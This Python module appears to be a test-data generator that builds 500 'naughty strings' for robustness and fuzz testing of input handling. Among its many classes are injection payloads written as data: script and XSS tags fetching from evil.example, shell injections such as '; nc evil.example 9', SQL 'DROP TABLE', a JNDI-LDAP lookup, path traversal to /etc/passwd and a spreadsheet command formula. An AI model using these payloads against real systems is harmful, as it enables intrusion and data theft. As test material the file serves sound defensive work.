"""Classes of text that break programs -> five hundred strings of our own making."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import islice, product
from types import MappingProxyType

COUNT = 500
_EVIL = "evil.example"
_ACCENTS = "\u0300\u0301\u0316\u0323\u034f\u0489\u20dd"
_SCRIPT = ("alert(1)", "fetch('//evil.example')", "top.x=1")
_CALLS = ("sleep 9", "id", "nc evil.example 9")


def _joined(*parts: tuple[str, ...]) -> tuple[str, ...]:
    """Every way to take one of each part."""
    return tuple("".join(chosen) for chosen in product(*parts))


CLASSES: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "html": _joined(
            ("", '">', "'/>", "-->", "</p>"),
            ("<b>x</b>", "<img src=x onerror={}>", "<iframe srcdoc='<script>{}</script>'>"),
        ),
        "script": tuple(
            shape.format(code)
            for shape, code in product(
                (
                    "<script>{}</script>",
                    "<ScRiPt >{}</sCrIpT>",
                    "<svg/onload={}>",
                    "<a href=javascript:{}>x</a>",
                    "<details open ontoggle={}>",
                    "\u003cscript\u003e{}\u003c/script\u003e",
                    "&lt;script&gt;{}&lt;/script&gt;",
                    "&#60;script&#x3e;{}",
                    "<scr<script>ipt>{}</script>",
                    "<!--[if IE]>{}<![endif]-->",
                    "<![CDATA[<x>{}]]>",
                    "<style>@import'{}'</style>",
                ),
                _SCRIPT,
            )
        ),
        "markdown": (
            *_joined(("[x]", "![x]", "[![x](y)]"), ("(https://evil.example)", "(//x 't')", "[1]")),
            *_joined(("# ", "> ", "- ", "1. ", "\t", "    "), ("x", "**x**", "`x`")),
            *(
                "*x*",
                "**x**",
                "__x__",
                "~~x~~",
                "`x`",
                "```x\ny\n```",
                "***",
                "---",
                "===",
                "x\n---",
            ),
            *("[x]: https://evil.example", "<https://evil.example>", "|a|b|\n|-|-|\n|1|2|", "[^1]"),
            *("x  \ny", "x\\\ny", "\\*x\\*", "- [ ] x", "\n\n# x", "x\r\n\r\n* y", ":tada:", "$x$"),
        ),
        "addresses": (
            *_joined(
                (
                    "http://",
                    "https://",
                    "HTTPS://",
                    "//",
                    "javascript:",
                    "data:text/html,",
                    "vbscript:",
                ),
                (_EVIL, f"user@{_EVIL}", f"{_EVIL}:8/?q=1#f", "[::1]/", "0x7f000001"),
            ),
            f"www.{_EVIL}",
            f"a@{_EVIL}",
            f"mailto:a@{_EVIL}",
            f"wwwwww..{_EVIL}",
            "file:///etc/passwd",
        ),
        "sql": _joined(
            ("'", '"', "1", "1)"), ("; DROP TABLE t;--", " OR 1=1--", " UNION SELECT 1", "/**/x")
        ),
        "shell": tuple(
            shape.format(call)
            for shape, call in product(("; {}", "| {}", "$({})", "`{}`", "&& {} #"), _CALLS)
        ),
        "templates": _joined(
            ("{{", "{%", "${", "#{", "<%=", "{{{", "[[", "%("),
            ("7*7", "config", "self.__class__", "jndi:ldap://evil.example/x"),
            ("}}", "%}", "}", "%>", ")s"),
        ),
        "formats": _joined(
            ("%", "%%", "%1$", "%-9", "{", "{0"), ("s", "n", "d", "x", "!r}", ".x}")
        ),
        "paths": _joined(
            ("../", "..\\", "%2e%2e/", "....//", "/"), ("etc/passwd", "con", "x\x00.json", "*")
        ),
        "line breaks": _joined(
            ("x", ""),
            ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "%0d%0a"),
            ("Set-Cookie: a=b", "# y"),
        ),
        "control": (
            *tuple(f"a{chr(code)}b" for code in (*range(32), *range(127, 160))),
            "\x1b[31mred",
            "\x1b]0;t\x07",
            "\x9b2J",
            "\x00",
            "\x00" * 9,
        ),
        "unseen": tuple(
            f"a{character}b"
            for character in "\u00ad\u061c\u180e\u200b\u200c\u200d\u2060\u2064\ufeff\u115f\u3164"
        ),
        "right to left": _joined(
            ("\u202e", "\u202d", "\u2067", "\u200f", ""),
            ("abc", "\u05d0\u05d1", "\u0627\u0644"),
            ("\u202c", ""),
        ),
        "marks": tuple(
            "".join(letter + _ACCENTS * depth for letter in word)
            for word, depth in product(("NTRK1", "a", "\u0e01"), (1, 3, 30))
        ),
        "scripts": (
            *(
                "\u65e5\u672c\u8a9e",
                "\ud55c\uad6d\uc5b4",
                "\u0395\u03bb\u03bb",
                "\u0420\u0443\u0441",
            ),
            *(
                "\u0e44\u0e17\u0e22",
                "\u0939\u093f\u0928",
                "\ufdfd",
                "\u01c4\u0149\ufb00",
                "\u1e9e\u0130\u0131",
            ),
            *(
                "\uff2e\uff34\uff32\uff2b\uff11",
                "\U0001d40d\U0001d413",
                "\u24c3\u24c9",
                "\u0406\u0410\u041e",
            ),
            *(
                "\U000e0041\U000e0042",
                "\U0010ffff",
                "\ufffe",
                "\ufffd",
                "\ue000",
                "\U0001f1ec\U0001f1e7",
            ),
        ),
        "emoji": _joined(
            ("\U0001f469", "\U0001f9ec", "\u2764"),
            ("", "\ufe0f", "\U0001f3fd", "\u200d\U0001f52c"),
            ("", " x"),
        ),
        "numbers": (
            *("0", "-0", "00", "1e999", "-1e999", "NaN", "Infinity", "1/0", "0x10", "0b1", "1_0"),
            *(
                "9" * 400,
                "0." + "1" * 400,
                "\u0661\u0662",
                "\u00bd",
                "\u2167",
                "\u00b2",
                "1,000.00",
            ),
            *("--1", "+1", "1e", ".", "2147483648", "-9223372036854775809", "9007199254740993"),
        ),
        "words": (
            *("", " ", "  x  ", "null", "None", "undefined", "true", "false", "[object Object]"),
            *(
                "__proto__",
                "constructor",
                "hasOwnProperty",
                "CON",
                "self",
                "eval",
                "nil",
                "\\",
                "\\\\",
            ),
            *(
                "'",
                '"',
                "`",
                "''",
                '""',
                "'\"",
                "<",
                ">",
                "&",
                "|",
                "~",
                "^",
                "x" * 10_000,
                "a " * 999,
            ),
        ),
        "dates": (
            *(
                "0000-00-00",
                "9999-12-31",
                "2026-02-30",
                "2026-13-01",
                "1-1-1",
                "2026-11-22T25:61:61Z",
            ),
            *("-0001-01-01", "10000-01-01", "2026-W01", "today", "1969-12-31T23:59:59+99:99"),
        ),
        "formulas": _joined(("=", "+", "-", "@"), ("1+1", "cmd|' /C x'!A0", "HYPERLINK('x')")),
        "json": (
            '{"a":1}',
            '"}],"cards":[',
            "\\u0000",
            "\\ud800",
            '{"$ref":"#"}',
            "]]>",
            "//x",
            "{}",
        ),
        "references": (
            *("Patient/other", "#", "#x", "urn:uuid:x", "Observation/", "/", "?", "Patient/../x"),
            *(
                "https://evil.example/fhir/Patient/synthetic-1",
                "Patient/synthetic-1?x",
                "Patient//",
            ),
        ),
    }
)


def naughty_strings() -> tuple[str, ...]:
    """COUNT different strings, taken in turn from all classes."""
    return tuple(islice(_in_turn(), COUNT))


def _in_turn() -> Iterator[str]:
    seen: set[str] = set()
    longest = max(map(len, CLASSES.values()))
    for place in range(longest):
        for texts in CLASSES.values():
            if place < len(texts) and texts[place] not in seen:
                seen.add(texts[place])
                yield texts[place]
